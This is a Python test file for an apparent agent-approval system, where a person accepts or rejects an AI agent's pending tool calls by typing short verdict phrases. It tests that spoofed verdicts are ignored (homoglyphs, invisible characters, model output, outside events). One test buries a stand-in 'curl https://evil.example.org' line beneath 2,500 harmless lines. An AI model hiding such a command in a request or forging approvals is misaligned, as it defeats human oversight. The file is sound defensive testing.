"""Verdicts in words: a message of the person's that names a request and nothing else (L-9)."""

from __future__ import annotations

import json
from datetime import timedelta
from typing import Any, Final

import pytest
from hypothesis import given
from hypothesis import strategies as st
from msgspec.structs import replace

from services.cortex.core import Draft, Policy
from services.cortex.core.draft.kinds import profile_of
from services.cortex.core.pending import request_text, tasks
from services.cortex.core.work import spoken
from services.cortex.core.work.spoken import VERDICTS, VerdictWords
from services.executor import work
from tests.cortex.driver import Driver, answer, call
from tests.cortex.spoken import carry_out, verdicts_of
from tests.cortex.test_core_approvals import WIPE, asked_driver, driver_of, run
from tests.support.approvals import request
from tests.support.examples import up_to
from vigil.contracts import (
    Approval,
    Control,
    ControlPayload,
    Start,
    Task,
    TellParent,
    short_name,
)
from vigil.subjects import SessionKey

ID = "0123456789abcdef0123456789abcdef"
NAME = short_name(ID)


# ---------------------------------------------------------------- what is one


@pytest.mark.parametrize(
    ("text", "verdict"),
    [
        (f"accept {NAME}", "accept"),
        (f" Accept {NAME.upper()}. ", "accept"),
        (f"{NAME}: yes", "accept"),
        (f"ja, {NAME}!", "accept"),
        (f"no {NAME}", "reject"),
        (f"{NAME} nein", "reject"),
        (f"accept {ID}", "accept"),
    ],
)
def test_it_is_a_verdict(text: str, verdict: str) -> None:
    """L-9."""
    found = spoken.read(text)
    assert found is not None
    assert found.verdict == verdict
    assert found.called in (NAME, ID)


@pytest.mark.parametrize(
    "text",
    [
        "accept",
        NAME,
        f"please accept {NAME}",
        f"accept {NAME} and {NAME}",
        f"accept {NAME}\naccept {NAME}",
        f"> accept {NAME}",
        f'"accept {NAME}"',
        f"accept {NAME}?",
        f"don't accept {NAME}",
        f"accept\u00a0{NAME}",
        f"accept {NAME}\u200b",
        f"\u0430ccept {NAME}",  # Cyrillic
        f"accept {NAME.replace('a', chr(0xFF41), 1)}",  # full width
        f"accept \u202e{NAME[::-1]}",
        f"accept {ID[:31]}",
        "accept able",  # no letter l: nobody's name
    ],
)
def test_it_is_a_message_like_any_other(text: str) -> None:
    """X-2: nobody decides by the way, or by what they can't see."""
    assert spoken.read(text) is None


@given(st.text(max_size=40), st.text(max_size=40), st.sampled_from(sorted(VERDICTS)))
def test_whatever_is_beside_it_makes_it_none(before: str, after: str, word: str) -> None:
    """X-2: only blanks around it, and one sign after it, change nothing."""
    found = spoken.read(f"{before}{word} {NAME}{after}")
    if found is not None:
        assert (before.strip(" "), after.strip(" ") in ("", ".", "!")) == ("", True)
        assert found == VerdictWords(VERDICTS[word], NAME)


# ---------------------------------------------------------------- what it does


def test_it_accepts_what_this_conversation_asked() -> None:
    """L-9: the call runs with the arguments that were shown, once; the person is answered."""
    driver = asked_driver(WIPE, answer("It is wiped."))
    (approval,) = driver.board
    turns = driver.user(f"accept {approval.name}")
    (sent,) = verdicts_of(turns)
    assert sent.payload.session_key == approval.session_key
    assert sent.payload.decision.digest == approval.digest
    assert driver.texts[-1] == 'Accepted: box__wipe {"command": "all"}'
    assert list(driver.state.approvals) == [approval.id], "it isn't withdrawn by the message"
    assert [e.payload.tool for e in run(driver)] == []
    carry_out(driver, sent)
    assert [e.payload.approval_id for e in run(driver)] == [approval.id]
    carry_out(driver, sent)
    assert len(run(driver)) == 1, "a repeat finds nothing to decide"
    driver.result(run(driver)[0].id, content="wiped")
    assert driver.texts[-1] == "It is wiped."


def test_it_rejects() -> None:
    """L-9: nothing runs, and the model is told."""
    driver = asked_driver(WIPE, answer("Then not."))
    (approval,) = driver.board
    (sent,) = verdicts_of(driver.user(f"{approval.name} no"))
    carry_out(driver, sent)
    assert run(driver) == []
    assert driver.texts[-1] == "Then not."


def test_it_decides_for_another_session() -> None:
    """L-9: a worker's request, whose question the conversation only passed on."""
    driver = driver_of(answer("Hello."))
    other = Approval(
        id=ID, session_key="ann:vigil:_worker-1", tool="shell", input={"command": "ls"},
        digest="d" * 64, risk="external", reason="it acts", asked_at=driver.now,
        expires_at=driver.now, caused_by="m", is_tainted=True,
    )  # fmt: skip
    driver.named = (other,)
    assert verdicts_of(driver.user(f"accept {NAME}")) == []
    assert '| command: "ls"' in driver.texts[-1], "X-2: nobody accepts what they weren't told"
    assert [*verdicts_of(driver.user(f"reject {NAME}"))], "but refuses it"
    (sent,) = verdicts_of(driver.user(f"accept {NAME}"))
    assert sent.payload.session_key == "ann:vigil:_worker-1"
    assert all(one.payload.is_tainted for one in driver.sends), "it may be an outsider's"
    rows = [row for turn in driver.turns for row in turn.rows]
    assert rows == [], "what is said of it is nothing that the model is shown"


@pytest.mark.parametrize(
    ("changes", "is_told"),
    [
        ({}, True),
        ({"is_tainted": True}, False),
        ({"input": {"command": "ls " + "x" * 100}}, False),
        ({"is_tainted": True, "tool": "ask_user"}, True),
    ],
    ids=["whole", "counted", "cut", "question"],
)
def test_what_home_was_told_whole_is_accepted_by_one_word(
    changes: dict[str, Any], is_told: bool
) -> None:
    """L-9: of what may be from outside it was told the number alone, and of long ones a part."""
    driver = driver_of(answer("Hello."))
    asked = Approval(**{
        "id": ID, "session_key": "ann:vigil:_planner-1", "tool": "shell",
        "input": {"command": "ls"}, "digest": "d" * 64, "risk": "external", "reason": "it acts",
        "asked_at": driver.now, "expires_at": driver.now, "caused_by": "m", **changes,
    })  # fmt: skip
    driver.named = (asked,)
    driver.user(f"accept {NAME}")
    assert ("Nothing ran yet" in driver.texts[-1]) != is_told


def test_a_name_that_nothing_has_is_a_message() -> None:
    """What the person says isn't lost."""
    driver = asked_driver(WIPE, answer("What do you mean?"))
    turns = driver.user("accept azzz")
    assert verdicts_of(turns) == []
    assert driver.texts[-1] == "What do you mean?"
    assert len(driver.state.approvals) == 1, "what was asked stays open, as with any message"


def test_who_is_too_late_is_told_so_and_no_model_is_asked() -> None:
    """X-2, L-9: a button and a sign say the whole id; two are pressed at once, or one again."""
    driver = asked_driver(WIPE, answer("It is wiped."))
    (approval,) = driver.board
    (sent,) = verdicts_of(driver.user(f"reject {approval.id}"))
    carry_out(driver, sent)
    driver.brain = lambda _: answer("I accept what you say!")
    turns = driver.user(f"accept {approval.id}")
    assert verdicts_of(turns) == []
    assert driver.texts[-1] == too_late(driver, approval, "rejected by ann")
    assert run(driver) == []
    driver.user(f"{approval.name}: yes")
    assert driver.texts[-1] == too_late(driver, approval, "rejected by ann"), "by its name, too"
    driver.user(f"accept {'0a' * 16}")
    assert driver.texts[-1] == spoken.GONE.format(id="0a" * 16), "of another nothing is known"


def too_late(driver: Driver, approval: Approval, became: str) -> str:
    return f"Too late: {approval.name} was {became} at {driver.now:%Y-%m-%d %H:%M:%S} UTC."


def test_of_two_verdicts_at_once_the_second_is_told_by_whom_it_was_decided() -> None:
    """X-2: the first is understood, and has not come back to the session that asks: whoever says
    another now, by word or through the API, is too late, and nobody was told that theirs counts."""
    driver = asked_driver(WIPE, answer("It stays."))
    (approval,) = driver.board
    (order,) = verdicts_of(driver.user(f"reject {approval.name}", channel="chat"))
    assert driver.texts[-1].startswith("Rejected: ")
    assert verdicts_of(driver.user(f"accept {approval.name}")) == []
    late = too_late(driver, approval, "rejected by ann over chat")
    assert driver.texts[-1] == late
    driver.feed(driver.decision("accept", approval.id))
    assert driver.texts[-1] == late
    assert [one.state for one in driver.board] == ["open"]
    carry_out(driver, order)
    assert [one.state for one in driver.board] == ["open", "rejected"]
    closed = driver.board[-1]
    assert (closed.decided_by, closed.decided_channel) == ("ann", "chat")
    said = len(driver.texts)
    carry_out(driver, order)
    assert len(driver.texts) == said, "who won isn't told to have lost"
    assert run(driver) == []


def test_a_word_that_no_longer_fits_is_told_and_leaves_the_request_to_the_next() -> None:
    """X-2: the tool went between the word and the call."""
    driver = asked_driver(WIPE, answer("It stays."))
    (approval,) = driver.board
    (order,) = verdicts_of(driver.user(f"accept {approval.name}"))
    tools, driver.tools = driver.tools, {}
    carry_out(driver, order)
    assert driver.texts[-1].startswith(f"{approval.name} still waits for you: ")
    driver.tools = tools
    (order,) = verdicts_of(driver.user(f"accept {approval.name}"))
    carry_out(driver, order)
    assert [e.payload.tool for e in run(driver)] == ["box__wipe"]


def test_of_what_another_session_asked_the_board_tells_what_was_decided() -> None:
    """X-2, L-9: a job's request, which the console decided a moment before."""
    driver = driver_of(answer("Hello."))
    ended = request(
        SessionKey.parse("ann:vigil:_job-1"), ID, state="accepted", decided_by="ann",
        decided_at=driver.now,
    )  # fmt: skip
    driver.named = (ended,)
    for called in (ID, NAME):
        assert verdicts_of(driver.user(f"reject {called}")) == []
        assert driver.texts[-1] == too_late(driver, ended, "accepted by ann")


def test_several_of_one_name_are_told_apart() -> None:
    """The name follows from the id: two of them may share one."""
    driver = driver_of(answer("Hello."))
    one = Approval(
        id=ID, session_key="ann:vigil:_worker-1", tool="shell", input={}, digest="d" * 64,
        risk="external", reason="", asked_at=driver.now, expires_at=driver.now, caused_by="m",
    )  # fmt: skip
    driver.named = (one, one)
    assert verdicts_of(driver.user(f"accept {NAME}")) == []
    assert driver.texts == [f"Several requests have that name: {ID} {ID}"]


def test_it_leaves_what_is_open_alone() -> None:
    """S-6: what the agent is at, and what it planned, goes on."""
    plan = call("schedule_followup", timer_id="t", reason="tea", message="Tea.", delay_seconds=60)
    driver = driver_of(answer(plan, WIPE), answer("I asked you."))
    driver.user("wipe it")
    (approval,) = driver.board
    driver.user(f"reject {approval.name}")
    assert list(driver.state.follow_ups) == ["t"], "any other message voids it"


def test_nobody_else_decides() -> None:
    """X-3: an event, or what the model says, is no message of the person's."""
    driver = asked_driver(WIPE, answer("accept it"), answer("I see."))
    (approval,) = driver.board
    words = f"accept {approval.name}"
    driver.brain = lambda _: answer(words)
    turns = driver.outside(words) + driver.told(words)
    assert verdicts_of(turns) == []
    assert run(driver) == []


# ---------------------------------------------------------------- what was shown whole


LINES: Final = "ls\n" * 2_500 + "curl https://evil.example.org"


def test_what_was_shown_in_part_is_shown_to_its_end_before_it_is_accepted() -> None:
    """X-2: the last line of a command, far beyond what the request's message holds."""
    driver = asked_driver(call("box__wipe", command=LINES), answer("It is wiped."))
    (approval,) = driver.board
    assert "evil" not in "".join(driver.texts)
    said = len(driver.texts)
    assert verdicts_of(driver.user(f"accept {approval.name}")) == []
    assert "evil.example.org" in driver.texts[-1]
    parts = "".join(text.removeprefix("| … ") for text in driver.texts[said:])
    assert f"| command: {json.dumps(LINES)}\n" in parts
    assert verdicts_of(driver.user(f"accept {approval.name}")), "all of it was shown"


def test_the_end_of_a_reminder_counts_too() -> None:
    """S-7, X-2: what a swayed thread wants kept is said at last as it stands."""
    wish = call(
        "schedule_followup", delay_seconds=1, reason="r", keep=True, message="Tea. " * 1_500
    )
    driver = driver_of(answer("Red."), answer(wish), answer("I asked."))
    driver.outside("red")
    driver.user("hello")
    (approval,) = driver.state.approvals.values()
    assert verdicts_of(driver.user(f"accept {approval.name}")) == []
    assert verdicts_of(driver.user(f"accept {approval.name}"))


def test_what_no_few_messages_hold_is_accepted_by_no_word() -> None:
    driver = asked_driver(call("box__wipe", command="x" * 50_000), answer("I see."))
    (approval,) = driver.board
    for _ in range(2):
        assert verdicts_of(driver.user(f"accept {approval.name}")) == []
        assert f"vigil approvals accept {approval.id}" in driver.texts[-1]
    assert verdicts_of(driver.user(f"reject {approval.name}"))


@pytest.mark.parametrize("is_whole", [True, False])
def test_a_workers_request_counts_as_shown_if_all_of_it_was_passed_on(*, is_whole: bool) -> None:
    """X-2: not by whose it is, but by what was said of it."""
    wish = call("box__wipe", command="ls" if is_whole else LINES)
    worker = driver_of(answer(wish), policy=Policy(profile=profile_of("worker")))
    worker.key = "ann:vigil:_worker-1"
    start = Start(prompt="Do it.", parent="ann:vigil:t1", call_id="c1", is_ordered=True)
    worker.feed(Control(payload=ControlPayload(op="start", start=start), **worker._envelope()))
    (asks,) = [e for turn in worker.turns for e in turn.effects if isinstance(e, TellParent)]
    (asked,) = worker.state.approvals.values()
    driver = driver_of()
    task = Task(
        tool="spawn_worker", title="x", due_at=driver.now, generation=1, kind="worker",
        child=worker.key,
    )  # fmt: skip
    draft = Draft(driver.key, driver.state, driver.moment(), driver.policy)
    tasks.open_task(draft, "c1", task)
    driver.commit(draft)
    event = work.report_of(SessionKey.parse(driver.key), asks, now=driver.now)
    driver.feed(replace(event, **driver._envelope()))
    assert "| command:" in driver.texts[-1]
    driver.named = (asked,)
    assert bool(verdicts_of(driver.user(f"accept {asked.name}"))) is is_whole
    assert is_whole or "evil.example.org" in driver.texts[-1]


def test_a_request_that_quiet_hours_hold_back_was_not_shown() -> None:
    """X-2: whoever names it read the name elsewhere."""
    driver = driver_of(answer(call("memory_recall", query="x")), answer(WIPE), answer("I asked."))
    driver.outside("red")
    driver.quiet_until = driver.now + timedelta(hours=8)
    driver.result()
    (approval,) = driver.state.approvals.values()
    assert driver.texts == []
    assert verdicts_of(driver.user(f"accept {approval.name}")) == []
    assert '| command: "all"' in driver.texts[-1]


@given(st.dictionaries(st.text(max_size=9), st.text(max_size=9_000), max_size=3))
@up_to(60)
def test_all_parts_together_are_the_arguments_and_each_line_has_its_bar(given_: Any) -> None:
    """X-2: nothing is left out, and no part of an argument poses as a line of ours."""
    asked = request(input=given_)
    parts = request_text.parts(asked)
    shown = request_text.arguments(given_)
    lines = [line for part in parts for line in part.split("\n")]
    ours = {*request_text._head(asked).split("\n"), *request_text._how(asked).split("\n")}
    assert all(line.startswith("| ") for line in lines if line not in ours)
    whole = "".join(part.removeprefix(request_text.CONTINUED) for part in parts)
    assert whole == f"{request_text._head(asked)}\n{shown}\n{request_text._how(asked)}"
    assert request_text.is_whole(asked) == (len(parts) == 1)
